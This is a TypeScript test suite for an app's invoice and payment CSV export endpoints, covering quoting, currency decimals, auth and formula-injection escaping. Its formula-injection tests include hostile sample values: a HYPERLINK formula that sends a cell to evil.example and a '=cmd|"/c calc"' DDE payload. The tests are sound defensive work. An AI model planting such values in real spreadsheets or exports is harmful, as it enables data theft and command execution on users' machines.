import { describe, expect, it } from 'vitest';
import { signInAs } from '../../support/app';
import {
  addInvoice,
  createBrand,
  createDeal,
  createInvoice,
  csvObjects,
  parseCsv,
  pay,
  setWorkspaceZone,
  trackInvoiceApps,
  type Workspace,
} from '../../support/invoices';
import { expectApiError } from '../helpers';

const apps = trackInvoiceApps();

// The workspace clock reads 2026-03-01T12:00Z (UTC): today is 2026-03-01.

const INVOICE_HEADER = [
  'number',
  'brand',
  'deal',
  'status',
  'overdue',
  'currency',
  'amount',
  'paid',
  'balance',
  'amount_cents',
  'paid_cents',
  'issued_on',
  'payment_terms_days',
  'due_on',
  'days_overdue',
  'notes',
];
const PAYMENT_HEADER = [
  'paid_on',
  'invoice_number',
  'brand',
  'deal',
  'currency',
  'amount',
  'amount_cents',
  'fee',
  'fee_cents',
  'net',
  'net_cents',
  'method',
  'note',
];

/** The raw bytes of a download, read before any decoding could drop a BOM. */
async function rawBytes(t: Workspace, path: string): Promise<Buffer> {
  const res = await t.app.request(path, { headers: { cookie: t.owner.cookie! } });
  return Buffer.from(await res.arrayBuffer());
}

describe('GET /api/exports/invoices.csv', () => {
  it('is a CSV attachment named for today in the workspace zone', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000 });
    const res = await t.owner.get('/api/exports/invoices.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv(;|$)/);
    expect(res.headers.get('content-type')).toMatch(/charset=utf-8/i);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="invoices-2026-03-01.csv"',
    );

    // 12:00Z is already 01:00 on 2 March in Auckland.
    await setWorkspaceZone(t.owner, 'Pacific/Auckland');
    expect(
      (await t.owner.get('/api/exports/invoices.csv')).headers.get('content-disposition'),
    ).toBe('attachment; filename="invoices-2026-03-02.csv"');
  });

  it('starts with a UTF-8 byte order mark and ends records with CRLF', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000, notes: 'Café Zürich' });
    const bytes = await rawBytes(t, '/api/exports/invoices.csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text).toContain('Café Zürich');
  });

  it('has the header row and one exact row per invoice', async () => {
    const t = await apps.workspace();
    const inv = await addInvoice(t, { amountCents: 450_050, status: 'sent', notes: 'Net 30' });
    await pay(t.owner, inv.id, { amountCents: 50, paidOn: '2026-03-01' });
    const res = await t.owner.get('/api/exports/invoices.csv');
    // The body as text (Response.text() drops the BOM).
    expect(res.text).toBe(
      `${INVOICE_HEADER.join(',')}\r\n` +
        'INV-2026-0001,Acme,Launch,sent,no,USD,4500.50,0.50,4500.00,450050,50,2026-03-01,30,2026-03-31,0,Net 30\r\n',
    );
  });

  it('writes amounts as exact decimals for USD, JPY (no decimals) and KWD (three)', async () => {
    const t = await apps.workspace();
    const yenDeal = await createDeal(t.owner, {
      brandId: t.brand.id,
      title: 'Tokyo',
      currency: 'JPY',
    });
    const dinarDeal = await createDeal(t.owner, {
      brandId: t.brand.id,
      title: 'Kuwait',
      currency: 'KWD',
    });
    const usd = await addInvoice(t, { number: 'USD-1', amountCents: 30, status: 'sent' });
    await pay(t.owner, usd.id, { amountCents: 10, paidOn: '2026-03-01' });
    await pay(t.owner, usd.id, { amountCents: 10, paidOn: '2026-03-01' });
    const yen = await createInvoice(t.owner, {
      dealId: yenDeal.id,
      number: 'JPY-1',
      amountCents: 120_000,
      status: 'sent',
    });
    await pay(t.owner, yen.id, { amountCents: 50_000, paidOn: '2026-03-01' });
    const dinar = await createInvoice(t.owner, {
      dealId: dinarDeal.id,
      number: 'KWD-1',
      amountCents: 1_234,
      status: 'sent',
    });
    await pay(t.owner, dinar.id, { amountCents: 5, paidOn: '2026-03-01' });

    const rows = csvObjects((await t.owner.get('/api/exports/invoices.csv')).text);
    const byNumber = Object.fromEntries(rows.map((r) => [r.number, r]));
    expect(Object.keys(byNumber).sort()).toEqual(['JPY-1', 'KWD-1', 'USD-1']);
    const money = (n: string) => {
      const r = byNumber[n]!;
      return [r.currency, r.amount, r.paid, r.balance, r.amount_cents, r.paid_cents];
    };
    // 0.10 + 0.10 of a 0.30 invoice leaves exactly 0.10, not 0.09999999999999998.
    expect(money('USD-1')).toEqual(['USD', '0.30', '0.20', '0.10', '30', '20']);
    expect(money('JPY-1')).toEqual(['JPY', '120000', '50000', '70000', '120000', '50000']);
    expect(money('KWD-1')).toEqual(['KWD', '1.234', '0.005', '1.229', '1234', '5']);
  });

  it('writes status, overdue and days for every kind of invoice', async () => {
    const t = await apps.workspace();
    const mk = (number: string, dueOn: string, status: 'draft' | 'sent' | 'void') =>
      addInvoice(t, { number, amountCents: 1000, issuedOn: '2026-01-01', dueOn, status });
    await mk('DRAFT', '2026-02-01', 'draft');
    await mk('VOID', '2026-02-01', 'void');
    await mk('LATE', '2026-02-20', 'sent');
    await mk('FINE', '2026-03-01', 'sent');
    const paid = await mk('PAID', '2026-02-01', 'sent');
    await pay(t.owner, paid.id, { amountCents: 1000, paidOn: '2026-02-01' });

    const rows = csvObjects((await t.owner.get('/api/exports/invoices.csv')).text);
    expect(rows).toHaveLength(5);
    expect(
      Object.fromEntries(
        rows.map((r) => [r.number, [r.status, r.overdue, r.days_overdue, r.balance]]),
      ),
    ).toEqual({
      DRAFT: ['draft', 'no', '0', '10.00'],
      VOID: ['void', 'no', '0', '0.00'],
      LATE: ['sent', 'yes', '9', '10.00'],
      FINE: ['sent', 'no', '0', '10.00'],
      PAID: ['paid', 'no', '0', '0.00'],
    });
  });

  it('escapes quotes and commas in brand names, deal titles and notes', async () => {
    const t = await apps.workspace();
    const brand = await createBrand(t.owner, 'Smith, "Jones" & Co');
    const deal = await createDeal(t.owner, { brandId: brand.id, title: 'Spring, "big" launch' });
    await createInvoice(t.owner, {
      dealId: deal.id,
      amountCents: 1000,
      notes: 'Paid "later", maybe',
    });
    const res = await t.owner.get('/api/exports/invoices.csv');
    expect(res.text).toContain('"Smith, ""Jones"" & Co","Spring, ""big"" launch"');
    const [row] = csvObjects(res.text);
    expect(row).toMatchObject({
      brand: 'Smith, "Jones" & Co',
      deal: 'Spring, "big" launch',
      notes: 'Paid "later", maybe',
    });
  });

  it('quotes a note with a CRLF line break, keeping it one record', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000, notes: 'Line one\r\nline two' });
    const rows = csvObjects((await t.owner.get('/api/exports/invoices.csv')).text);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.notes).toBe('Line one\r\nline two');
  });

  it('quotes a note or brand name with a bare LF line break, keeping it one record', async () => {
    const t = await apps.workspace();
    const brand = await createBrand(t.owner, 'North\nSouth');
    const deal = await createDeal(t.owner, { brandId: brand.id, title: 'Two lines' });
    await createInvoice(t.owner, {
      dealId: deal.id,
      amountCents: 1000,
      notes: 'PO 4711\nAttn: accounts payable',
    });
    const res = await t.owner.get('/api/exports/invoices.csv');
    // RFC 4180: a field holding a line break is enclosed in double quotes; spreadsheets end a record at a bare LF.
    expect(res.text).toContain('"North\nSouth"');
    expect(res.text).toContain('"PO 4711\nAttn: accounts payable"');
    const rows = csvObjects(res.text);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      brand: 'North\nSouth',
      notes: 'PO 4711\nAttn: accounts payable',
    });
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
    ['=1+1'],
    ['+1'],
    ['-1'],
    ['@x'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
  ])('prefixes the formula-like note %j with an apostrophe', async (notes) => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000, notes });
    const [row] = csvObjects((await t.owner.get('/api/exports/invoices.csv')).text);
    expect(row!.notes).toBe(`'${notes}`);
  });

  it('prefixes formula-like brand names and deal titles too, and leaves ordinary text alone', async () => {
    const t = await apps.workspace();
    const brand = await createBrand(t.owner, '=cmd|"/c calc"!A1');
    const deal = await createDeal(t.owner, { brandId: brand.id, title: '+49 campaign' });
    await createInvoice(t.owner, {
      dealId: deal.id,
      number: 'F-1',
      amountCents: 1000,
      notes: 'Net 30 = fine',
    });
    await addInvoice(t, { number: 'F-2', amountCents: 1000, notes: "O'Brien - 2 posts" });
    const rows = csvObjects((await t.owner.get('/api/exports/invoices.csv')).text);
    const byNumber = Object.fromEntries(rows.map((r) => [r.number, r]));
    expect(byNumber['F-1']).toMatchObject({
      brand: `'=cmd|"/c calc"!A1`,
      deal: "'+49 campaign",
      notes: 'Net 30 = fine',
    });
    expect(byNumber['F-2']).toMatchObject({
      brand: 'Acme',
      deal: 'Launch',
      notes: "O'Brien - 2 posts",
    });
  });

  it('is only the header row for a workspace without invoices', async () => {
    const t = await apps.workspace();
    const res = await t.owner.get('/api/exports/invoices.csv');
    expect(parseCsv(res.text)).toEqual([INVOICE_HEADER]);
  });

  it('may be downloaded by a viewer', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000 });
    const { client } = await signInAs(t, 'viewer');
    const res = await client.get('/api/exports/invoices.csv');
    expect(res.status).toBe(200);
    expect(csvObjects(res.text)).toHaveLength(1);
  });

  it('returns 401 without a session', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000, notes: 'secret' });
    const res = await t.client().get('/api/exports/invoices.csv');
    expectApiError(res, 401, { code: 'unauthorized' });
    expect(res.text).not.toContain('secret');
  });
});

describe('GET /api/exports/payments.csv', () => {
  async function withPayments() {
    const t = await apps.workspace();
    const yenDeal = await createDeal(t.owner, {
      brandId: t.brand.id,
      title: 'Tokyo',
      currency: 'JPY',
    });
    const usd = await addInvoice(t, { number: 'USD-1', amountCents: 100_000, status: 'sent' });
    const yen = await createInvoice(t.owner, {
      dealId: yenDeal.id,
      number: 'JPY-1',
      amountCents: 300_000,
      status: 'sent',
    });
    // The provider kept $9.97 of the first payment.
    const first = await t.owner.post(`/api/invoices/${usd.id}/payments`, {
      amountCents: 33_333,
      feeCents: 997,
      paidOn: '2026-02-10',
      method: 'bank transfer',
      note: 'first',
    });
    expect(first.status, first.text).toBe(201);
    await pay(t.owner, yen.id, { amountCents: 150_000, paidOn: '2026-01-31', method: 'wire' });
    await pay(t.owner, usd.id, {
      amountCents: 66_667,
      paidOn: '2026-02-28',
      note: 'rest, with "thanks"',
    });
    return t;
  }

  it('is a CSV attachment with the header and one row per payment, oldest first, amounts exact', async () => {
    const t = await withPayments();
    const res = await t.owner.get('/api/exports/payments.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv(;|$)/);
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="payments-2026-03-01.csv"',
    );
    expect(parseCsv(res.text)).toEqual([
      PAYMENT_HEADER,
      [
        '2026-01-31',
        'JPY-1',
        'Acme',
        'Tokyo',
        'JPY',
        '150000',
        '150000',
        '0',
        '0',
        '150000',
        '150000',
        'wire',
        '',
      ],
      [
        '2026-02-10',
        'USD-1',
        'Acme',
        'Launch',
        'USD',
        '333.33',
        '33333',
        '9.97',
        '997',
        '323.36',
        '32336',
        'bank transfer',
        'first',
      ],
      [
        '2026-02-28',
        'USD-1',
        'Acme',
        'Launch',
        'USD',
        '666.67',
        '66667',
        '0.00',
        '0',
        '666.67',
        '66667',
        '',
        'rest, with "thanks"',
      ],
    ]);
    expect(res.text).toContain('"rest, with ""thanks"""');
  });

  it('starts with a UTF-8 byte order mark', async () => {
    const t = await withPayments();
    const bytes = await rawBytes(t, '/api/exports/payments.csv');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('prefixes formula-like methods and notes', async () => {
    const t = await apps.workspace();
    const inv = await addInvoice(t, { amountCents: 10_000, status: 'sent' });
    await pay(t.owner, inv.id, {
      amountCents: 100,
      paidOn: '2026-02-01',
      method: '=HYPERLINK("x")',
      note: '@admin',
    });
    await pay(t.owner, inv.id, {
      amountCents: 100,
      paidOn: '2026-02-02',
      method: '+1 wire',
      note: '-5 fee',
    });
    await pay(t.owner, inv.id, {
      amountCents: 100,
      paidOn: '2026-02-03',
      method: 'cash',
      note: 'a - b',
    });
    const rows = csvObjects((await t.owner.get('/api/exports/payments.csv')).text);
    expect(rows.map((r) => [r.method, r.note])).toEqual([
      [`'=HYPERLINK("x")`, "'@admin"],
      ["'+1 wire", "'-5 fee"],
      ['cash', 'a - b'],
    ]);
  });

  it('quotes a payment note with a bare LF line break, keeping it one record', async () => {
    const t = await apps.workspace();
    const inv = await addInvoice(t, { amountCents: 10_000, status: 'sent' });
    await pay(t.owner, inv.id, {
      amountCents: 100,
      paidOn: '2026-02-03',
      note: 'ref 123\nsee e-mail',
    });
    const res = await t.owner.get('/api/exports/payments.csv');
    expect(res.text).toContain('"ref 123\nsee e-mail"');
    const rows = csvObjects(res.text);
    expect(rows).toHaveLength(1);
    expect(rows[0]!.note).toBe('ref 123\nsee e-mail');
  });

  it('is only the header row without payments', async () => {
    const t = await apps.workspace();
    await addInvoice(t, { amountCents: 1000 });
    expect(parseCsv((await t.owner.get('/api/exports/payments.csv')).text)).toEqual([
      PAYMENT_HEADER,
    ]);
  });

  it('returns 401 without a session', async () => {
    const t = await withPayments();
    expectApiError(await t.client().get('/api/exports/payments.csv'), 401, {
      code: 'unauthorized',
    });
  });
});

describe('parseCsv (the test helper itself)', () => {
  it('reads RFC 4180 quoting, empty fields and line breaks', () => {
    expect(parseCsv('a,"b,c","d""e",\r\n"x\r\ny",,z\r\n')).toEqual([
      ['a', 'b,c', 'd"e', ''],
      ['x\r\ny', '', 'z'],
    ]);
    expect(parseCsv('a\nb\rc')).toEqual([['a'], ['b'], ['c']]);
    expect(parseCsv('""')).toEqual([['']]);
    expect(() => parseCsv('a"b')).toThrow();
    expect(() => parseCsv('"open')).toThrow();
  });
});
